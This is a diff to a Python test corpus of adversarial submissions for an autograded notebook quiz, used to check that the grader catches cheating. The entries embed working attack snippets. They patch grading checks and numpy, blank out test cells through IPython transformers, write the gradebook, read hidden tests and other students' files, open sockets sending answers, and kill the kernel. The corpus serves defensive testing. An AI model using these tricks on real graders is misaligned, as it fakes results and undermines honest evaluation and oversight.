@@ -1,9 +1,9 @@
-"""Adversarial submissions to quiz 4 (q4_qkv_math, 9 points), each with the grade its honest part
-deserves, the status it must end with and the evidence it must be flagged with.
+"""Adversarial submissions to quiz 4 (q4_qkv_math), each with the grade its honest part deserves
+(the test cells it must fail), the status it must end with and the evidence it must be flagged with.
 
 Every submission is built by a generator from the honest notebook (the release with the solution
-code in its solution cells), so the corpus follows the quiz when the quiz changes. Points: softmax
-2, scaled_dot_product_attention 4, three questions 1 each.
+code in its solution cells), and its expected score is computed from the quiz's test cells, so the
+corpus follows the quiz when the quiz changes.
 
 ``ENTRIES`` lists them; :func:`build` writes one into a course's ``submitted/`` folder.
 The attacks receive ``{canary}`` (a file outside the course that must never appear),
@@ -32,10 +32,29 @@ class Entry:
     name: str
     attack: str  # what it tries, in a few words
     make: Callable[[nbformat.NotebookNode], nbformat.NotebookNode | bytes]
-    score: float
+    # the test cells that must fail: a tuple of grade ids, "all", or "from:<grade id>" (that cell
+    # and every test cell after it: the kernel is gone); the expected score follows from the quiz
+    failed: tuple[str, ...] | str
     status: str
     flags: list[str] = field(default_factory=list)  # substrings expected among the flags
     filename: str = f"{QUIZ}.ipynb"
+
+    def score(self, points: list[tuple[str, float]]) -> float:
+        """The points this submission deserves, given the quiz's test cells in order."""
+        ids = [grade_id for grade_id, _ in points]
+        if self.failed == "all":
+            lost = set(ids)
+        elif isinstance(self.failed, str):
+            lost = set(ids[ids.index(self.failed.removeprefix("from:")):])
+        else:
+            lost = set(self.failed)
+        return sum(p for grade_id, p in points if grade_id not in lost)
+
+
+def quiz_points(nb: nbformat.NotebookNode) -> list[tuple[str, float]]:
+    """(grade id, points) of the quiz's test cells, in notebook order."""
+    return [(c.metadata["nbgrader"]["grade_id"], float(c.metadata["nbgrader"]["points"])) for c in nb.cells
+            if c.metadata.get("nbgrader", {}).get("grade") and not c.metadata["nbgrader"].get("solution")]
 
 
 def _cell(nb: nbformat.NotebookNode, grade_id: str) -> nbformat.NotebookNode:
@@ -95,6 +114,7 @@ def _malformed(nb: nbformat.NotebookNode) -> bytes:
 
 
 wrong_softmax = _set("softmax", WRONG_SOFTMAX)
+SDPA_TEST = "test_scaled_dot_product_attention"
 SDPA_DELEGATES = '''import attnkit.attention as A
 def scaled_dot_product_attention(query, key, value, mask=None):
     return A.scaled_dot_product_attention(query, key, value, mask)
@@ -163,37 +183,37 @@ def scaled_dot_product_attention(query, key, value, mask=None):
 '''
 
 ENTRIES: list[Entry] = [
-    Entry("honest", "all correct", lambda nb: nb, 9, "graded"),
+    Entry("honest", "all correct", lambda nb: nb, (), "graded"),
     Entry("honest_noisy", "correct, but prints to stderr, warns, logs, overflows numpy", _chain(
-        _append("softmax", NOISY), _append("scaled_dot_product_attention", NOISY_SDPA)), 9, "graded"),
+        _append("softmax", NOISY), _append("scaled_dot_product_attention", NOISY_SDPA)), (), "graded"),
     Entry("honest_slow", "correct and slow (0.3 s per call)", _append("scaled_dot_product_attention", SLOW_SDPA),
-          9, "graded"),
-    Entry("blank", "nothing written", _blank, 0, "graded"),
+          (), "graded"),
+    Entry("blank", "nothing written", _blank, "all", "graded"),
     Entry("patch_checks", "replaces the check functions it imports", _chain(wrong_softmax, _append("softmax", '''
 try:
     import attnkit.grading.checks as _checks
     _checks.check_softmax = lambda *a, **k: None
 except Exception as exc:
     print("could not patch the checks:", exc)
-''')), 7, "flagged", ["grading package"]),
+''')), ("test_softmax",), "flagged", ["grading package"]),
     Entry("fake_sys_modules", "a fake checks module in sys.modules", _chain(wrong_softmax, _append("softmax", '''
 import sys, types
 _fake = types.ModuleType("attnkit.grading.checks")
 _fake.check_softmax = _fake.check_scaled_dot_product_attention = lambda *a, **k: None
 _fake.check_number = _fake.check_choice = lambda *a, **k: None
 sys.modules["attnkit.grading.checks"] = _fake
-''')), 7, "flagged", ["sys.modules"]),
+''')), ("test_softmax",), "flagged", ["sys.modules"]),
     Entry("input_transformer", "rewrites every cell run after it (the test cells)", _chain(
         wrong_softmax, _append("softmax", '''
 get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"] if "check_" in "".join(lines) else lines)
-''')), 7, "flagged", ["input transformers"]),
+''')), ("test_softmax",), "flagged", ["input transformers"]),
     Entry("ast_transformer", "an AST transformer that empties test cells", _chain(wrong_softmax, _append("softmax", '''
 import ast as _ast
 class _Empty(_ast.NodeTransformer):
     def visit_Module(self, node):
         return _ast.Module(body=[], type_ignores=[]) if "check" in _ast.unparse(node) else node
 get_ipython().ast_transformers.append(_Empty())
-''')), 7, "flagged", ["AST transformers"]),
+''')), ("test_softmax",), "flagged", ["AST transformers"]),
     Entry("writes_gradebook", "writes its own row of the gradebook", _chain(_blank, _append("softmax", '''
 import sqlite3, os
 for path in ["{course}/gradebook.db", "../../../gradebook.db", "../gradebook.db", "gradebook.db"]:
@@ -203,14 +223,15 @@ for path in ["{course}/gradebook.db", "../../../gradebook.db", "../gradebook.db"
         con.commit()
     except Exception as exc:
         print(path, exc)
-''')), 0, "flagged", ["outside its folder"]),
-    Entry("reexported_builtin", "attention through a re-exported name", _set("scaled_dot_product_attention",
-                                                                              SDPA_DELEGATES), 5, "graded"),
-    Entry("default_arg_builtin", "attention bound as a default argument", _set("scaled_dot_product_attention",
-                                                                               SDPA_DEFAULT_ARG), 5, "graded"),
-    Entry("torch_internal", "torch._C._nn.scaled_dot_product_attention", _set("scaled_dot_product_attention",
-                                                                              SDPA_TORCH_INTERNAL), 5, "graded"),
-    Entry("softmax_alias", "torch's softmax under another name", _set("softmax", SOFTMAX_TORCH_ALIAS), 7, "graded"),
+''')), "all", "flagged", ["outside its folder"]),
+    Entry("reexported_builtin", "attention through a re-exported name",
+          _set("scaled_dot_product_attention", SDPA_DELEGATES), (SDPA_TEST,), "graded"),
+    Entry("default_arg_builtin", "attention bound as a default argument",
+          _set("scaled_dot_product_attention", SDPA_DEFAULT_ARG), (SDPA_TEST,), "graded"),
+    Entry("torch_internal", "torch._C._nn.scaled_dot_product_attention",
+          _set("scaled_dot_product_attention", SDPA_TORCH_INTERNAL), (SDPA_TEST,), "graded"),
+    Entry("softmax_alias", "torch's softmax under another name", _set("softmax", SOFTMAX_TORCH_ALIAS),
+          ("test_softmax",), "graded"),
     Entry("reads_hidden_tests", "reads solutions/ (the hidden tests)", _append("softmax", '''
 for path in ["{course}/solutions/q4_qkv_math/q4_qkv_math.ipynb", "../../../solutions/q4_qkv_math/q4_qkv_math.ipynb",
              "/work/main/solutions/q4_qkv_math/q4_qkv_math.ipynb"]:
@@ -218,7 +239,7 @@ for path in ["{course}/solutions/q4_qkv_math/q4_qkv_math.ipynb", "../../../solut
         print(open(path).read()[:100])
     except Exception as exc:
         print(type(exc).__name__)
-'''), 9, "flagged", ["outside its folder"]),
+'''), (), "flagged", ["outside its folder"]),
     Entry("reads_other_submissions", "lists and reads other students' submissions", _append("softmax", '''
 import os
 for path in ["{course}/submitted", "../..", "/"]:
@@ -230,14 +251,14 @@ try:
     print(open("{course}/submitted/honest/q4_qkv_math/q4_qkv_math.ipynb").read()[:50])
 except Exception as exc:
     print(type(exc).__name__)
-'''), 9, "flagged", ["outside its folder"]),
+'''), (), "flagged", ["outside its folder"]),
     Entry("writes_outside", "writes files into the course and elsewhere", _append("softmax", '''
 for path in ["{canary}", "{course}/PWNED.txt", "../../../PWNED.txt", "/work/PWNED.txt", "/usr/PWNED"]:
     try:
         open(path, "w").write("pwned")
     except Exception as exc:
         print(type(exc).__name__)
-'''), 9, "flagged", ["outside its folder"]),
+'''), (), "flagged", ["outside its folder"]),
     Entry("network", "opens network connections", _append("softmax", '''
 import socket
 for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("localhost", {port})]:
@@ -245,7 +266,7 @@ for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("localhost", {port})
         socket.create_connection((host, port), timeout=1).sendall(b"stolen answers")
     except Exception as exc:
         print(host, type(exc).__name__)
-'''), 9, "flagged", ["network"]),
+'''), (), "flagged", ["network"]),
     Entry("hang_ignores_interrupts", "a cell that never ends and swallows interrupts", _append(
         "scaled_dot_product_attention", '''
 import time
@@ -254,22 +275,23 @@ while True:
         time.sleep(100)
     except BaseException:
         pass
-'''), 2, "timed out"),
+'''), "from:test_scaled_dot_product_attention", "timed out"),
     Entry("hang_in_function", "a function that never returns", _set("scaled_dot_product_attention", '''
 def scaled_dot_product_attention(query, key, value, mask=None):
     while True:
         pass
-'''), 5, "timed out"),
+'''), ("test_scaled_dot_product_attention",), "timed out"),
     Entry("exits_kernel", "ends the kernel (os._exit)", _append("answer_softmax_axis", "import os\nos._exit(0)"),
-          7, "crashed"),
+          "from:test_answer_softmax_axis", "crashed"),
     Entry("kills_itself", "kills its own process (SIGKILL)",
-          _append("answer_scale_divisor", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"), 8, "crashed"),
+          _append("answer_scale_divisor", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)"),
+          "from:test_answer_scale_divisor", "crashed"),
     Entry("memory_hog", "allocates far more memory than allowed", _append("answer_scale_divisor", '''
 try:
     hog = np.ones(1 << 37)
 except MemoryError:
     raise
-'''), 9, "memory limit"),
+'''), (), "memory limit"),
     Entry("leftover_processes", "starts processes that outlive the notebook", _append("softmax", '''
 import subprocess, os
 subprocess.Popen(["sleep", "300"], start_new_session=True)
@@ -278,38 +300,38 @@ if os.fork() == 0:
     import time
     time.sleep(300)
     os._exit(0)
-'''), 9, "flagged", ["started a process"]),
-    Entry("malformed", "not valid JSON", _malformed, 0, "malformed"),
-    Entry("renamed", "the right notebook under another name", lambda nb: nb, 9, "renamed",
+'''), (), "flagged", ["started a process"]),
+    Entry("malformed", "not valid JSON", _malformed, "all", "malformed"),
+    Entry("renamed", "the right notebook under another name", lambda nb: nb, (), "renamed",
           filename="my_quiz_final.ipynb"),
     Entry("duplicated_test_cell", "a second copy of a test cell", _insert_after(
         "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "test_softmax", "locked": True, "points": 2.0,
                                               "schema_version": 3, "solution": False, "task": False}}),
-          9, "test cells restored"),
+          (), "test cells restored"),
     Entry("invented_grade_cell", "a grade cell of its own worth 100 points", _insert_after(
         "test_softmax", "pass", {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": True, "points": 100.0,
                                               "schema_version": 3, "solution": False, "task": False}}),
-          9, "test cells restored"),
-    Entry("deleted_test_cell", "deletes a test cell", _delete("test_scaled_dot_product_attention"), 9,
+          (), "test cells restored"),
+    Entry("deleted_test_cell", "deletes a test cell", _delete("test_scaled_dot_product_attention"), (),
           "test cells restored"),
     Entry("edited_test_cell", "empties a test cell (and has a wrong softmax)", _chain(
-        wrong_softmax, _set("test_softmax", "pass")), 7, "test cells restored"),
+        wrong_softmax, _set("test_softmax", "pass")), ("test_softmax",), "test cells restored"),
     Entry("copied_from_attnkit", "attnkit's own implementation pasted in", _set("scaled_dot_product_attention",
-                                                                                SDPA_COPIED), 9, "flagged",
+                                                                                SDPA_COPIED), (), "flagged",
           ["copied from attnkit/attention.py:scaled_dot_product_attention"]),
     Entry("patch_numpy", "makes numpy's comparisons always true", _chain(wrong_softmax, _append("softmax", '''
 np.allclose = lambda *a, **k: True
 np.testing.assert_allclose = lambda *a, **k: None
-''')), 7, "flagged", ["patches a library"]),
+''')), ("test_softmax",), "flagged", ["patches a library"]),
     Entry("always_equal_answer", "an answer object equal to everything", _set("answer_softmax_axis", '''
 class Anything(str):
     def __eq__(self, other):
         return True
     __hash__ = str.__hash__
 answer_softmax_axis = Anything("a")
-'''), 8, "graded"),
+'''), ("test_answer_softmax_axis",), "graded"),
     Entry("removes_profiler", "switches the grader's profiler off, then delegates", _set(
-        "scaled_dot_product_attention", SDPA_NO_PROFILER), 9, "flagged", ["profiler"]),
+        "scaled_dot_product_attention", SDPA_NO_PROFILER), (), "flagged", ["profiler"]),
 ]
 
 
@@ -345,8 +367,8 @@ def build(entry: Entry, honest: nbformat.NotebookNode, folder: Path, **values: s
     return path
 
 
-def expected_table() -> str:
-    return "\n".join(f"| {e.name} | {e.attack} | {e.score:g} | {e.status} | {', '.join(e.flags)} |"
+def expected_table(points: list[tuple[str, float]]) -> str:
+    return "\n".join(f"| {e.name} | {e.attack} | {e.score(points):g} | {e.status} | {', '.join(e.flags)} |"
                      for e in ENTRIES)
 
 
